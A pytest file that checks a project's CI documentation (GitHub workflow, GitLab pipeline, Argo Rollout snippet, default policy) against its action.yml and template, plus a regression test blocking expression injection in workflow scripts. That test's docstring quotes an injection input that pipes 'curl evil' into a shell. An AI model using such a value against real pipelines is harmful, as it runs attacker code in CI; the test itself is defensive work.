"""docs/ci.md stays true: its policy block is the built-in default, its GitHub workflow drives
action.yml with inputs the action has and reads outputs it writes, its GitLab pipeline extends
the template's jobs with the template's variables, its Rollout snippet fills in the argument the
argo-analysis export declares; and the gate steps run as documented against a real registry
(action.yml's gate step and the template's script with this checkout's specreg on PATH; the
installs themselves are run by tests/deploy/test_pipeline.py)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml
from cirunner import ACTION, GITLAB_TEMPLATE, ROOT, gitlab_job, parse_dotenv, parse_github_output, run_action_step
from govstate import POLICY_TOML, record_validation, register_versions
from policyrecord import record_policy

from pgroles import as_user
from specreg.api import Registry
from specreg.registry.governance.policy import DEFAULT_POLICY_TOML

DOC = Path(__file__).parents[2] / "docs" / "ci.md"


def blocks(lang: str) -> list[str]:
    return re.findall(rf"```{lang}\n(.*?)```", DOC.read_text(), re.S)


def documented() -> tuple[dict, dict, list]:
    """The GitHub workflow, the GitLab pipeline and the Rollout's canary steps."""
    github, gitlab, rollout = (yaml.safe_load(b) for b in blocks("yaml"))
    return github, gitlab, rollout["steps"]


def expression(text: str, values: dict[str, str]) -> str:
    """`${{ a.b }}` expressions of a workflow filled in from ``values`` (each must be known)."""
    return re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", lambda m: values[m.group(1)], text)


def test_policy_block_is_the_built_in_default():
    assert [tomllib.loads(b) for b in blocks("toml")] == [tomllib.loads(DEFAULT_POLICY_TOML)]


def test_workflow_uses_the_action_as_it_is():
    github, _, _ = documented()
    (step,) = [s for s in github["jobs"]["gate"]["steps"] if s.get("id") == "gate"]
    assert re.fullmatch(r"[\w-]+/specreg@v[\d.]+", step["uses"])
    assert set(step["with"]) <= set(ACTION["inputs"])
    assert {name for name, spec in ACTION["inputs"].items() if spec.get("required")} <= set(step["with"])
    for name, value in github["jobs"]["gate"]["outputs"].items():
        assert re.fullmatch(r"\$\{\{ steps\.gate\.outputs\.([\w-]+) \}\}", value).group(1) in ACTION["outputs"], name
    used = re.findall(r"needs\.gate\.outputs\.([\w-]+)", yaml.safe_dump(github["jobs"]["deploy"]))
    assert used and set(used) <= set(github["jobs"]["gate"]["outputs"])


def test_gitlab_pipeline_extends_the_template_as_it_is():
    _, gitlab, _ = documented()
    (include,) = gitlab["include"]
    assert (ROOT / include["file"].lstrip("/")).is_file()
    for job in ("specreg-gate", "promote"):
        assert gitlab[job]["extends"] in GITLAB_TEMPLATE
    assert set(gitlab["specreg-gate"]["variables"]) <= set(gitlab_job(".specreg-gate")["variables"])
    dotenv = {"SPECREG_VERDICT", "SPECREG_PAIR", "SPECREG_VERSION", "SPECREG_ENVIRONMENT", "SPECREG_BINDING",
              "SPECREG_LOCK_DIGEST", "SPECREG_AUDIT_HEAD", "SPECREG_REASONS"}
    assert set(re.findall(r"\$(SPECREG_[A-Z_]+)", " ".join(gitlab["promote"]["script"]))) <= dotenv
    assert set(re.findall(r"SPECREG_[A-Z_]+", DOC.read_text().split("## GitLab CI")[1].split("```")[0])) == \
        dotenv | {"SPECREG_REQUIREMENT", "SPECREG_PROJECT", "SPECREG_REF", "SPECREG_GATE_PAIR", "SPECREG_GATE_ENV",
                  "SPECREG_GATE_LOCK"}
    # what the template's default requirement installs is named where the include is (it was not)
    install = gitlab_job(".specreg")["variables"]
    assert {"SPECREG_PROJECT", "SPECREG_REF"} <= set(install) and "${SPECREG_PROJECT}" in install["SPECREG_REQUIREMENT"]
    assert {name: gitlab["variables"][name] for name in ("SPECREG_PROJECT", "SPECREG_REF")} == \
        {"SPECREG_PROJECT": include["project"], "SPECREG_REF": include["ref"]}


def test_rollout_snippet_fills_in_the_exported_argument():
    from specreg.registry.deploy.engines import argo

    _, _, steps = documented()
    (analysis,) = [step["analysis"] for step in steps if "analysis" in step]
    assert analysis["args"] == [{"name": argo.CANARY_ARG, "valueFrom": {"podTemplateHashValue": "Latest"}}]
    assert analysis["templates"][0]["templateName"].endswith("-acceptance")


@pytest.mark.slow
def test_documented_gate_steps_run(tmp_path, tiny_models, approval_key):
    """The workflow's gate step (action.yml's, with the documented inputs) and the GitLab job (the
    template's script with the documented variables) pass on a real registry and deployed lock."""
    github, gitlab, _ = documented()
    workspace = tmp_path / "workspace"
    (workspace / "deploy").mkdir(parents=True)
    db_url = f"sqlite:///{tmp_path / 'registry.db'}"
    (tmp_path / "specreg.toml").write_text(POLICY_TOML)
    record_policy(db_url, tmp_path / "specreg.toml", tmp_path)  # the registry's policy of record
    registry = Registry(as_user(db_url, "alice"), user="alice")
    (ref,) = register_versions(registry, tiny_models, "chat", 1)
    record_validation(registry, ref)
    Registry(db_url, user="bob").approve(ref, key=approval_key(db_url, "bob"), note="ok")
    lock_text = dict(registry.export(ref, "vllm"))["specreg.lock.json"]
    (workspace / "deploy" / "specreg.lock.json").write_text(lock_text)
    binding = registry.get(ref).binding_sha256
    here = str(Path(sys.executable).parent)  # this checkout's specreg stands for the installed one
    env = {**os.environ, "PATH": f"{here}:{os.environ['PATH']}"}

    # GitHub: the gate job's env and the action step's inputs, as the runner fills them in
    job, (step,) = github["jobs"]["gate"], [s for s in github["jobs"]["gate"]["steps"] if s.get("id") == "gate"]
    values = {"secrets.SPECREG_DB": db_url, "inputs.pair": ref, "inputs.environment": "staging",
              "github.actor": "octocat"}
    job_env = {k: expression(v, values) for k, v in {**job.get("env", {}), **step.get("env", {})}.items()}
    inputs = {k: expression(str(v), values) for k, v in step["with"].items()}
    runner = {"RUNNER_TEMP": tmp_path / "runner", "GITHUB_OUTPUT": tmp_path / "github_output",
              "GITHUB_STEP_SUMMARY": tmp_path / "summary.md", "GITHUB_PATH": tmp_path / "github_path",
              "GITHUB_ACTION_PATH": ROOT}
    runner["RUNNER_TEMP"].mkdir()
    result = run_action_step("specreg gate", inputs, runner, {**env, **job_env}, cwd=workspace)
    assert result.returncode == 0, result.stdout + result.stderr
    outputs = parse_github_output(runner["GITHUB_OUTPUT"].read_text())
    assert outputs["verdict"] == "pass" and outputs["binding"] == binding and len(outputs["lock_digest"]) == 64
    assert "PASS" in runner["GITHUB_STEP_SUMMARY"].read_text()

    # GitLab: the documented job's variables over the template's, the template's script
    documented_job = gitlab["specreg-gate"]
    variables = {**gitlab_job(documented_job["extends"])["variables"], **gitlab["variables"],
                 **documented_job["variables"], "SPECREG_DB": db_url, "TARGET_ENV": "staging", "PAIR": ref}
    variables = {k: re.sub(r"\$(\w+)", lambda m: variables.get(m.group(1), m.group(0)), str(v))
                 for k, v in variables.items()}
    script = "\n".join(["set -eo pipefail", *gitlab_job(documented_job["extends"])["script"]])
    ran = subprocess.run(["bash", "-c", script], cwd=workspace, env={**env, **variables}, capture_output=True,
                         text=True, timeout=120)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    dotenv = parse_dotenv((workspace / "gate.env").read_text())
    assert dotenv["SPECREG_VERDICT"] == "pass" and dotenv["SPECREG_BINDING"] == binding
    assert json.loads((workspace / "gate.json").read_text())["verdict"] == "pass"
    assert (workspace / "gate.xml").read_text().count("<testcase") >= 5


def workflow_yaml_blocks() -> list[tuple[str, object]]:
    """(where, parsed YAML) of every YAML block in the docs and the README that is a GitHub
    workflow or action (it has `jobs:` or `runs:`), and action.yml itself."""
    found = [("action.yml", ACTION)]
    for page in [ROOT / "README.md", *sorted((ROOT / "docs").rglob("*.md"))]:
        for number, block in enumerate(re.findall(r"```ya?ml\n(.*?)```", page.read_text(), re.S)):
            try:
                parsed = yaml.safe_load(block)
            except yaml.YAMLError:
                continue  # a fragment, not a workflow
            if isinstance(parsed, dict) and ("jobs" in parsed or "runs" in parsed):
                found.append((f"{page.relative_to(ROOT)} block {number}", parsed))
    return found


def run_scripts(document) -> list[str]:
    """The `run:` scripts of a workflow's or composite action's steps, wherever they sit."""
    scripts, stack = [], [document]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            if isinstance(item.get("run"), str):
                scripts.append(item["run"])
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    return scripts


def test_no_documented_workflow_splices_an_expression_into_a_script():
    """Was: docs/ci.md's deploy job ran `specreg promote "${{ inputs.pair }}" ...`: GitHub pastes
    the expression into the script's source, so a pair input `x"; curl evil | sh; "` ran code.
    Inputs, step and job outputs reach a script through `env:` only."""
    documents = workflow_yaml_blocks()
    assert [where for where, _ in documents][:1] == ["action.yml"] and len(documents) >= 2
    for where, document in documents:
        scripts = run_scripts(document)
        assert scripts or where != "action.yml"
        for script in scripts:
            assert "${{" not in script, (where, script)
